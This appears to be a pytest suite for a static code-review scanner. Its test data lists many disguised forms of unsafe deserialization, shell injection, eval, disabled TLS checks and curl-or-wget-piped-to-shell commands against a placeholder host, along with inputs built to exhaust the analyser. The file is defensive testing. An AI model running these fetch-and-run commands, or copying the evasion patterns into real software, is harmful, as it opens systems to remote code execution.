"""code.review is not talked out of what a program does: other names, other ways to call, other places to keep a thing."""

import json
import time

import pytest

from assay.checks.code.review import _walk

FOUND = [
    ('alias mod', "import pickle as p\nq = p\nq.loads(open('x','rb').read())", 'pickle_load'),
    ('alias fn', "import pickle\nf = pickle.loads\nf(b'')", 'pickle_load'),
    ('from as', "from pickle import loads as l\nl(b'')", 'pickle_load'),
    ('getattr', "import pickle\ngetattr(pickle, 'loads')(b'')", 'pickle_load'),
    ('getattr cat', "import pickle\ngetattr(pickle, 'lo'+'ads')(b'')", 'pickle_load'),
    ('importlib', "import importlib\nimportlib.import_module('pickle').loads(b'')", 'pickle_load'),
    ('importlib getattr', "import importlib\ngetattr(importlib.import_module('pickle'), 'loads')(b'')", 'pickle_load'),
    ('__import__', "__import__('pickle').loads(b'')", 'pickle_load'),
    ('__import__ var', "m = __import__('os')\nm.system(input())", 'shell'),
    ('from importlib', "from importlib import import_module as im\nim('torch').load('x')", 'torch_load'),
    ('sys.modules', "import sys, pickle\nsys.modules['pickle'].loads(b'')", 'pickle_load'),
    ('__dict__', "import pickle\npickle.__dict__['loads'](b'')", 'pickle_load'),
    ('vars', "import pickle\nvars(pickle)['loads'](b'')", 'pickle_load'),
    ('globals', "import pickle\nglobals()['pickle'].loads(b'')", 'pickle_load'),
    ('partial', "import functools, pickle\nf = functools.partial(pickle.loads)\nf(b'')", 'pickle_load'),
    ('partial kw', "from functools import partial\nimport numpy as np\nload = partial(np.load, allow_pickle=True)\nload('x.npy')", 'allow_pickle'),
    ('partial arg', 'from functools import partial\nimport subprocess\nrun = partial(subprocess.run, shell=True)\nrun(input())', 'shell'),
    ('class attr', "import pickle\nclass A:\n    load = pickle.load\n    def go(self):\n        return self.load(open('x','rb'))\n", 'pickle_load'),
    ('class attr2', "import pickle\nclass A:\n    load = staticmethod(pickle.load)\nA.load(open('x','rb'))\n", 'pickle_load'),
    ('self attr', "import pickle\nclass A:\n    def __init__(self):\n        self.f = pickle.loads\n    def go(self):\n        return self.f(b'')\n", 'pickle_load'),
    ('kwargs dict', "import numpy as np\nnp.load('x', **{'allow_pickle': True})", 'allow_pickle'),
    ('kwargs var', "import numpy as np\nkw = {'allow_pickle': True}\nnp.load('x', **kw)", 'allow_pickle'),
    ('kwargs dict()', "import numpy as np\nkw = dict(allow_pickle=True)\nnp.load('x', **kw)", 'allow_pickle'),
    ('kwargs built', "import numpy as np\nkw = {}\nkw['allow_pickle'] = True\nnp.load('x', **kw)", 'allow_pickle'),
    ('kwargs update', "import numpy as np\nkw = {}\nkw.update(allow_pickle=True)\nnp.load('x', **kw)", 'allow_pickle'),
    ('kwargs union', "import numpy as np\nkw = {'mmap_mode': None} | {'allow_pickle': True}\nnp.load('x', **kw)", 'allow_pickle'),
    ('kwargs torch', "import torch\ntorch.load('x', **{'weights_only': False})", 'torch_load'),
    ('kwargs torch unknown', "import torch\ndef f(**kw):\n    return torch.load('x', **kw)", 'torch_load'),
    ('kwargs trust', "from transformers import AutoModel\nkw = {'trust_remote_code': True}\nAutoModel.from_pretrained('a/b', **kw)", 'trust_remote_code'),
    ('positional allow', "import numpy as np\nnp.load('x', None, True)", 'allow_pickle'),
    ('conditional assign', "import numpy as np, os\nif os.environ.get('X'):\n    ok = True\nelse:\n    ok = False\nnp.load('x', allow_pickle=ok)", 'allow_pickle'),
    ('ternary', "import numpy as np, os\nnp.load('x', allow_pickle=True if os.environ.get('x') else False)", 'allow_pickle'),
    ('truthy 1', "import numpy as np\nnp.load('x', allow_pickle=1)", 'allow_pickle'),
    ('not False', "import numpy as np\nnp.load('x', allow_pickle=not False)", 'allow_pickle'),
    ('bool()', "import numpy as np\nnp.load('x', allow_pickle=bool(1))", 'allow_pickle'),
    ('weights 0', "import torch\ntorch.load('x', weights_only=0)", 'torch_load'),
    ('weights None', "import torch\ntorch.load('x', weights_only=None)", 'torch_load'),
    ('weights cond', "import torch,os\nw = True\nif os.environ.get('z'):\n    w = False\ntorch.load('x', weights_only=w)", 'torch_load'),
    ('star import', "from pickle import *\nloads(b'')", 'pickle_load'),
    ('star import os', 'from os import *\nsystem(input())', 'shell'),
    ('star import np', "from numpy import *\nload('x', allow_pickle=True)", 'allow_pickle'),
    ('walrus', "import pickle\n(f := pickle.loads)(b'')", 'pickle_load'),
    ('lambda', "import pickle\nf = lambda b: pickle.loads(b)\nf(b'')", 'pickle_load'),
    ('lambda taint', 'import os\nrun = lambda c: os.system(c)\nrun(input())', 'shell'),
    ('dict dispatch', "import pickle\nD = {'a': pickle.loads}\nD['a'](b'')", 'pickle_load'),
    ('list dispatch', "import pickle\nfor f in [pickle.loads]:\n    f(b'')", 'pickle_load'),
    ('map', "import pickle\nlist(map(pickle.loads, [b'']))", 'pickle_load'),
    ('map sys', 'import os\nlist(map(os.system, [input()]))', 'shell'),
    ('decorator', 'import pickle\n@pickle.loads\ndef f():\n    pass\n', 'pickle_load'),
    ('default arg', "import pickle\ndef f(b, l=pickle.loads):\n    return l(b)\nf(b'')", 'pickle_load'),
    ('match', 'import os, sys\nmatch sys.argv:\n    case [_, cmd]:\n        os.system(cmd)\n', 'shell'),
    ('match guard', 'import os, sys\nmatch sys.argv[1]:\n    case x if os.system(x):\n        pass\n', 'shell'),
    ('match as', 'import os\nmatch input():\n    case str() as c:\n        os.system(c)\n', 'shell'),
    ('walrus taint', 'import os\nif (c := input()):\n    os.system(c)\n', 'shell'),
    ('fstring nest', 'import os\nc = input()\nos.system(f\'{f"{c}"}\')\n', 'shell'),
    ('fstring fmt spec', "import os\nc = input()\nos.system(f'{1:{c}}')\n", 'shell'),
    ('try except', "import pickle\ntry:\n    import cPickle as pickle\nexcept ImportError:\n    import pickle\npickle.loads(b'')\n", 'pickle_load'),
    ('import in func', "def f():\n    import pickle\n    return pickle.loads(b'')\n", 'pickle_load'),
    ('operator attr', "import operator, pickle\noperator.attrgetter('loads')(pickle)(b'')", 'pickle_load'),
    ('operator method', "import operator, pickle\noperator.methodcaller('loads', b'')(pickle)", 'pickle_load'),
    ('nested fn', 'import os\ndef outer():\n    def inner(c):\n        os.system(c)\n    inner(input())\nouter()\n', 'shell'),
    ('closure', 'import os\ndef mk():\n    return os.system\nmk()(input())\n', 'shell'),
    ('reassign builtin', 'e = eval\ne(input())', 'eval'),
    ('builtins mod', 'import builtins\nbuiltins.eval(input())', 'eval'),
    ('__builtins__', "__builtins__['eval'](input())", 'eval'),
    ('__builtins__.', '__builtins__.eval(input())', 'eval'),
    ('getattr builtins', "import builtins\ngetattr(builtins,'ev'+'al')(input())", 'eval'),
    ('exec compiled', "exec(compile(input(),'x','exec'))", 'eval'),
    ('star args', 'import os\nos.system(*[input()])', 'shell'),
    ('star args var', 'import os\na = (input(),)\nos.system(*a)', 'shell'),
    ('kwargs taint', "import subprocess\nsubprocess.run(**{'args': input(), 'shell': True})", 'shell'),
    ('kw args', 'import subprocess\nsubprocess.run(shell=True, args=input())', 'shell'),
    ('apply', 'import subprocess\nkw = dict(shell=True)\nsubprocess.run(input(), **kw)', 'shell'),
    ('global', 'import os\nC = None\ndef a():\n    global C\n    C = input()\ndef b():\n    os.system(C)\n', 'shell'),
    ('self taint', 'import os\nclass A:\n    def __init__(self):\n        self.c = input()\n    def go(self):\n        os.system(self.c)\n', 'shell'),
    ('obj taint', 'import os\nclass A: pass\na = A()\na.c = input()\nos.system(a.c)\n', 'shell'),
    ('dict taint', "import os\nd = {}\nd['c'] = input()\nos.system(d['c'])\n", 'shell'),
    ('list append', 'import os\nd = []\nd.append(input())\nos.system(d[0])\n', 'shell'),
    ('list extend', 'import os\nd = []\nd.extend([input()])\nos.system(d[0])\n', 'shell'),
    ('setdefault', "import os\nd = {}\nd.setdefault('c', input())\nos.system(d['c'])\n", 'shell'),
    ('setattr', "import os\nclass A: pass\na = A()\nsetattr(a,'c', input())\nos.system(a.c)\n", 'shell'),
    ('yield', 'import os\ndef g():\n    yield input()\nfor c in g():\n    os.system(c)\n', 'shell'),
    ('return tuple', 'import os\ndef g():\n    return input(), 1\nc, _ = g()\nos.system(c)\n', 'shell'),
    ('try taint', 'import os\ntry:\n    c = input()\nfinally:\n    os.system(c)\n', 'shell'),
    ('except var', "import os\nc = ''\ntry:\n    c = input()\nexcept Exception:\n    c = 'x'\nos.system(c)\n", 'shell'),
    ('while taint', "import os\nc = 'a'\nb = 'x'\nwhile True:\n    os.system(c)\n    c = b\n    b = input()\n", 'shell'),
    ('aug', "import os\nc = 'ls '\nc += input()\nos.system(c)\n", 'shell'),
    ('percent', "import os\nos.system('ls %s' % input())\n", 'shell'),
    ('format', "import os\nos.system('ls {}'.format(input()))\n", 'shell'),
    ('format_map', "import os\nos.system('ls {c}'.format_map({'c': input()}))\n", 'shell'),
    ('join', "import os\nos.system(' '.join(['ls', input()]))\n", 'shell'),
    ('replace', "import os\nos.system('ls X'.replace('X', input()))\n", 'shell'),
    ('template', "import os, string\nos.system(string.Template('ls $x').substitute(x=input()))\n", 'shell'),
    ('slice', 'import os\nos.system(input()[1:])\n', 'shell'),
    ('strip', 'import os\nos.system(input().strip())\n', 'shell'),
    ('b64', 'import os, base64\nos.system(base64.b64decode(input()))\n', 'shell'),
    ('comp', 'import os\n[os.system(c) for c in [input()]]\n', 'shell'),
    ('await', 'import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell(input())\n', 'shell'),
    ('with as', 'import os\nwith open(input()) as f:\n    os.system(f.read())\n', 'shell'),
    ('subproc sh -c', "import subprocess\nsubprocess.run(['sh','-c',input()])\n", 'shell'),
    ('subproc bash -c fstring', "import subprocess\nsubprocess.run(['/bin/bash','-c',f'ls {input()}'])\n", 'shell'),
    ('os.exec', "import os\nos.execl('/bin/sh','sh','-c',input())\n", 'shell'),
    ('os.spawn', "import os\nos.spawnlp(os.P_WAIT,'sh','sh','-c',input())\n", 'shell'),
    ('pty', "import pty\npty.spawn(['sh','-c',input()])\n", 'shell'),
    ('popen2', 'import os\nos.popen(input())\n', 'shell'),
    ('shell=1', 'import subprocess\nsubprocess.run(input(), shell=1)\n', 'shell'),
    ('paramiko', 'import paramiko\nc = paramiko.SSHClient()\nc.exec_command(input())\n', 'shell'),
    ('pickle Unpickler.load', "import pickle\nclass U(pickle.Unpickler):\n    pass\nU(open('x','rb')).load()\n", 'pickle_load'),
    ('_pickle.load', "import _pickle\n_pickle.load(open('x','rb'))\n", 'pickle_load'),
    ('pandas alias', "from pandas import read_pickle as rp\nrp('x')\n", 'pickle_load'),
    ('joblib from', "from joblib import load\nload('x')\n", 'joblib_load'),
    ('sklearn ext', "from sklearn.externals import joblib\njoblib.load('x')\n", 'joblib_load'),
    ('np.lib.format', 'import numpy as np\nnp.lib.format.read_array(f, allow_pickle=True)\n', 'allow_pickle'),
    ('np.lib.npyio', "from numpy.lib.npyio import load\nload('x', allow_pickle=True)\n", 'allow_pickle'),
    ('np.load_library', "import numpy\nnumpy.load(file='x', allow_pickle=True)\n", 'allow_pickle'),
    ('yaml Loader', "import yaml\nyaml.load(open('x'), Loader=yaml.Loader)\n", 'yaml_load'),
    ('yaml Unsafe alias', "from yaml import UnsafeLoader as L, load\nload(open('x'), L)\n", 'yaml_load'),
    ('yaml SafeLoader shadow', "import yaml\nclass SafeLoader(yaml.UnsafeLoader): pass\nyaml.load(open('x'), SafeLoader)\n", 'yaml_load'),
    ('ruamel', "from ruamel.yaml import YAML\nYAML(typ='unsafe').load(open('x'))\n", 'yaml_load'),
    ('yaml kw', "import yaml\nyaml.load(stream=open('x'), **{'Loader': yaml.UnsafeLoader})\n", 'yaml_load'),
    ('marshal', "import marshal\nmarshal.loads(b'')\n", 'pickle_load'),
    ('dill.load_session', "import dill\ndill.load_session('x')\n", 'pickle_load'),
    ('dill load_module', "import dill\ndill.load_module('x')\n", 'pickle_load'),
    ('keras lambda', 'import keras\nkeras.config.enable_unsafe_deserialization()\n', 'keras_unsafe'),
    ('tf load', "import tensorflow as tf\ntf.keras.models.load_model('x', safe_mode=False)\n", 'keras_unsafe'),
    ('tf load from', "from tensorflow.keras.models import load_model\nload_model('x', safe_mode=False)\n", 'keras_unsafe'),
    ('skops trusted', "import skops.io as sio\nsio.load('x', trusted=sio.get_untrusted_types(file='x'))\n", 'skops_trusted'),
    ('skops trusted true', "import skops.io as sio\nsio.load('x', trusted=True)\n", 'skops_trusted'),
    ('lightning', "import lightning\nlightning.pytorch.LightningModule.load_from_checkpoint('x')\n", 'torch_load'),
    ('cond import', "import os\nif os.name=='nt':\n    import pickle as s\nelse:\n    import json as s\ns.loads(b'')\n", 'pickle_load'),
    ('verify False', "import requests\ns = requests.Session()\ns.verify = False\ns.get('https://x')\n", 'no_verification'),
    ('verify kw', "import requests\nkw={'verify':False}\nrequests.get('https://x', **kw)\n", 'no_verification'),
    ('ssl unverified', 'import ssl\nssl._create_default_https_context = ssl._create_unverified_context\n', 'no_verification'),
    ('exec string concat', "exec('import os;'+input())", 'eval'),
    ('code import', 'import code\ncode.InteractiveInterpreter().runsource(input())', 'eval'),
    ('type()', "import pickle\nA = type('A',(),{'f':staticmethod(pickle.loads)})\nA.f(b'')", 'pickle_load'),
    ('method ref', "import pickle\nclass L:\n    def __init__(s, f): s.f = f\nL(pickle.loads).f(b'')", 'pickle_load'),
    ('conditional fn', "import pickle, json, os\nf = pickle.loads if os.environ.get('X') else json.loads\nf(b'')", 'pickle_load'),
    ('conditional fn2', "import pickle, json, os\nf = json.loads if os.environ.get('X') else pickle.loads\nf(b'')", 'pickle_load'),
    ('or fn', "import pickle, json\nf = json and pickle.loads\nf(b'')", 'pickle_load'),
    ('shadow then real', 'def system(x): pass\nimport os\nos.system(input())', 'shell'),
    ('del', 'import os\nos.system(input()); del os', 'shell'),
    ('global alias later', 'import os\ndef f():\n    run(input())\nrun = os.system\n', 'shell'),
    ('local fn same name', "import os\ndef loads(x): pass\nimport pickle\npickle.loads(b'')", 'pickle_load'),
    ('allow many fns', 'import os\ndef f0(c):\n    f1(c)\ndef f1(c):\n    f2(c)\ndef f2(c):\n    f3(c)\ndef f3(c):\n    f4(c)\ndef f4(c):\n    f5(c)\ndef f5(c):\n    f6(c)\ndef f6(c):\n    f7(c)\ndef f7(c):\n    f8(c)\ndef f8(c):\n    os.system(c)\nf0(input())\n', 'shell'),
    ('six', "from six.moves import cPickle\ncPickle.loads(b'')", 'pickle_load'),
    ('cPickle', "import cPickle\ncPickle.loads(b'')", 'pickle_load'),
    ('annotation', "import pickle\nx: pickle.loads(b'') = 1", 'pickle_load'),
    ('default kw', "import pickle\ndef f(x=pickle.loads(b'')): pass", 'pickle_load'),
    ('class base', "import pickle\nclass A(pickle.loads(b'')): pass", 'pickle_load'),
    ('class kw', "import pickle\nclass A(metaclass=pickle.loads(b'')): pass", 'pickle_load'),
    ('class deco', "import pickle\n@pickle.loads(b'')\nclass A: pass", 'pickle_load'),
    ('assert msg', "import pickle\nassert 0, pickle.loads(b'')", 'pickle_load'),
    ('raise from', "import pickle\nraise ValueError from pickle.loads(b'')", 'pickle_load'),
    ('del sub', "import pickle\na={}\ndel a[pickle.loads(b'')]", 'pickle_load'),
    ('target sub', "import pickle\na={}\na[pickle.loads(b'')] = 1", 'pickle_load'),
    ('for target', "import pickle\nfor a[pickle.loads(b'')] in x: pass", 'pickle_load'),
    ('except type', "import pickle\ntry: pass\nexcept pickle.loads(b''): pass", 'pickle_load'),
    ('lambda default', "import pickle\nf = lambda x=pickle.loads(b''): x", 'pickle_load'),
    ('fmt spec call', 'import pickle\nf\'{1:{pickle.loads(b"")}}\'', 'pickle_load'),
    ('slice call', "import pickle\na[pickle.loads(b''):2]", 'pickle_load'),
    ('aug target', "import pickle\na[pickle.loads(b'')] += 1", 'pickle_load'),
    ('comp iter2', 'import pickle\n[y for x in a for y in pickle.loads(x)]', 'pickle_load'),
    ('yield call', "import pickle\ndef f():\n    yield pickle.loads(b'')", 'pickle_load'),
    ('return call', "import pickle\ndef f():\n    return pickle.loads(b'')", 'pickle_load'),
    ('match case guard', "import pickle\nmatch 1:\n    case _ if pickle.loads(b''): pass", 'pickle_load'),
    ('compare', "import pickle\n1 < pickle.loads(b'')", 'pickle_load'),
    ('dict value', "import pickle\n{'a': pickle.loads(b'')}", 'pickle_load'),
    ('dict unpack', "import pickle\n{**pickle.loads(b'')}", 'pickle_load'),
    ('returns ann', "import pickle\ndef f() -> pickle.loads(b''): pass", 'pickle_load'),
    ('nested class method', "import pickle\nclass A:\n    class B:\n        def f(self):\n            return pickle.loads(b'')", 'pickle_load'),
    ('method in if', "import pickle\nclass A:\n    if True:\n        def f(self):\n            return pickle.loads(b'')", 'pickle_load'),
    ('no main', "if __name__ == '__main__':\n    import pickle\n    pickle.loads(b'')", 'pickle_load'),
    ('dead branch', "import pickle\nif False:\n    pass\nelse:\n    pickle.loads(b'')", 'pickle_load'),
    ('after return', "import pickle\ndef f():\n    if x:\n        return 1\n    pickle.loads(b'')", 'pickle_load'),
    ("relative", "from .compat import pickle\npickle.loads(b'')", "pickle_load"),
    ("text that is run", "exec('import pickle; pickle.loads(x)')", "pickle_load"),
    ("returns in lines", "import pickle\rpickle.loads(x)\r", "pickle_load"),
]  # fmt: skip
LEFT = [
    "import pickle\nclass U(pickle.Unpickler):\n    def find_class(self, a, b):\n        raise ValueError\nU(f).load()",
    "import json as pickle\npickle.loads(b'')",
    "import yaml\nL = yaml.SafeLoader\nyaml.load(f, Loader=L)",
    "import numpy as np\nkw = {'mmap_mode': 'r'}\nnp.load('x', **kw)",
    "import numpy as np\nnp.load('x', None, False)",
    "import torch\nkw = dict(weights_only=True)\ntorch.load('x', **kw)",
    "import os\nd = {'a': input(), 'b': 'ls'}\nos.system(d['b'])",
    "import os\ndef f(c):\n    return c\nos.system(f('ls'))\nf(input())",
    "import subprocess\nsubprocess.run(['ls', input()])",
    "import os\nclass A:\n    def __init__(self, c):\n        self.c = c\n        self.d = 'ls'\n    def go(self):\n        os.system(self.d)\nA(input()).go()",
    "import operator\noperator.attrgetter('loads')(json)(b'')",
]  # fmt: skip
CELLS = [
    "import pickle\npickle.loads(x)  # is it?",
    "import pickle\n%timeit -n 3 pickle.loads(x)",
    "%%python3\nimport pickle\npickle.loads(x)",
    "%%script python3\nimport pickle\npickle.loads(x)",
    "%%local\nimport pickle\npickle.loads(x)",
]
FETCHED = [
    'echo "<<X"\ncurl https://x.example.org/a | sh\n',
    "bash <<EOF\ncurl https://x.example.org/a | sh\nEOF\n",
    "c\\\nurl https://x.example.org/a | s\\\nh",
    "bash <(curl https://x.example.org/a)",
    'bash -c "$(curl https://x.example.org/a)"',
    'eval "$(wget -qO- https://x.example.org/a)"',
    "curl https://x.example.org/a | sudo -E bash -",
    "curl https://x.example.org/a | tee b | sh",
    "source <(curl -s https://x.example.org/x)",
]
HARD = {
    "loops in loops": "".join(" " * i + f"for a{i} in b:\n" for i in range(90)) + " " * 90 + "x = a1 + a2\n",
    "loops that hand on": "".join(" " * i + f"while a{i}:\n" for i in range(60))
    + " " * 60
    + "c = b; b = a; a = input()\n",
    "a chain of calls": "df" + "".join(".a(1)" for _ in range(100)),
    "a text that doubles": "s = 'ab'\n" + "s = f'{s}{s}'\n" * 60,
    "a container that doubles": "s = {'a': 1}\n" + "s = {'a': s, 'b': s}\n" * 60 + "f(**s)\n",
    "arguments that double": "from functools import partial\np = partial(f, 1)\n"
    + "p = partial(p, p, a=p)\n" * 60
    + "p(p)\n",
    "calls that double": "def f0(x): return x\n"
    + "".join(
        f"def f{i}(x):\n return f{i - 1}(f{i - 1}(x + '{i}')) + f{i - 1}(x + 'b{i}')\n" for i in range(1, 60)
    )
    + "f59(input())\n",
    "functions that call each other": "def a(x, y): return b(x+'a', [y])\ndef b(x, y): return c({'k': x}, y)\n"
    "def c(x, y): return a(x['k'], [x, y])\na(input(), input())\n",
    "what calls itself": "w = lambda x: x(x, x)(x)\nw(w)\nv = lambda *a: a[0](*a, *a)\nv(v)\n",
    "a text that runs itself": "s = 'exec(s)'\nexec(s)\n",
    "decorators": "def d(f):\n def w(*a, **k): return f(*a, **k)\n return w\n"
    + "@d\n" * 150
    + "def f(x): return x\nf(input())\n",
    "a word of 100,000 letters": "c.execute('select " + "a" * 100_000 + " ' + x)\n",
    "globals": "".join(
        f"def f{i}():\n global g{i}, g{i + 1}\n g{i} = g{i + 1} + f{(i + 1) % 100}()\n return g{i}\n"
        for i in range(100)
    ),
}


@pytest.mark.parametrize(("text", "rule"), [f[1:] for f in FOUND], ids=[f[0] for f in FOUND])
def test_it_is_found_by_whatever_name_and_way_it_is_called(text, rule):
    assert rule in {s.rule for s in _walk.python(text)}


@pytest.mark.parametrize("text", LEFT)
def test_what_only_looks_like_it_is_left_alone(text):
    assert [s.rule for s in _walk.python(text)] == []


@pytest.mark.parametrize("source", CELLS)
def test_a_cell_whose_code_stands_behind_a_magic_is_read(source):
    text = json.dumps({"nbformat": 4, "cells": [{"cell_type": "code", "source": source}]})
    read = _walk.read("a.ipynb", "", text)
    assert read is not None
    assert [s.rule for s in read.spots] == ["pickle_load"]


@pytest.mark.parametrize("text", FETCHED)
def test_what_is_fetched_and_run_is_found_however_the_shell_is_told(text):
    read = _walk.read("a.sh", "", text)
    assert read is not None
    assert "fetched_and_run" in {s.rule for s in read.spots}


@pytest.mark.parametrize("text", HARD.values(), ids=HARD)
def test_a_program_made_to_be_followed_for_ever_ends(text):
    begun = time.process_time()
    _walk.read("a.py", "", text)
    assert time.process_time() - begun < 5


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.tf", "a = <<A\n" * 40_000),
        ("a.tf", "/*" * 150_000),
        (".github/workflows/a.yml", "on: push\njobs:\n  a:\n    steps:\n      - run: " + "${{ github.event.issue " * 12_000),
        ("Dockerfile", "ENV " + "TOKEN" * 20_000),
        ("a.ipynb", json.dumps({"nbformat": 4, "cells": [{"cell_type": "code", "source": "\t" * 100_000 + "x"}]})),
        ("a.ipynb", json.dumps({"nbformat": 4, "cells": [{"cell_type": "code", "source": '"' + '\\"' * 200_000}]})),
        ("a.ipynb", json.dumps({"nbformat": 4, "cells": [{"cell_type": "code", "source": '"""' + '""x' * 200_000}]})),
        ("a.ipynb", json.dumps({"nbformat": 4, "cells": [{"cell_type": "code", "source": "a" + " " * 100_000 + "x"}]})),
    ],
)  # fmt: skip
def test_a_line_made_for_backtracking_is_read_in_no_time(name, text):
    begun = time.process_time()
    try:
        _walk.read(name, "", text)
    except ValueError:
        pass
    assert time.process_time() - begun < 3


def test_what_would_take_too_many_steps_is_told_and_what_was_found_before_it_is_kept(monkeypatch, tmp_path):
    from assay.methods.review.python import naming
    from assay.works.checking import carry_out

    monkeypatch.setattr(naming, "MOST_STEPS", 2_000)
    (tmp_path / "a.py").write_text("import pickle\npickle.loads(x)\n" + "y = f(y)\n" * 2_000)
    verdict = carry_out("check", "code.review", str(tmp_path), {}, home=None)
    assert [f.rule for f in verdict.report.findings] == ["code.review.pickle_load"]
    assert [s.what for s in verdict.report.coverage.skipped] == ["a.py"]
    assert verdict.outcome == "incomplete"


def test_a_mend_stands_at_its_place_behind_a_form_feed_and_a_line_separator():
    from assay.methods.review.spot import edited

    text = "\x0cx = '\u2028'\nimport torch\r\ntorch.load('x')\n"
    spots = _walk.python(text)
    assert edited(text, spots[0].edits).endswith("torch.load('x', weights_only=True)\n")


def test_a_script_of_too_many_lines_is_not_read_in_part(monkeypatch):
    from assay.methods.review import dockerfile, shell

    for module, name in ((shell, "a.sh"), (dockerfile, "Dockerfile")):
        monkeypatch.setattr(module, "MOST_LINES", 10)
        with pytest.raises(ValueError, match="lines"):
            _walk.read(name, "", "RUN ls\n" * 20)
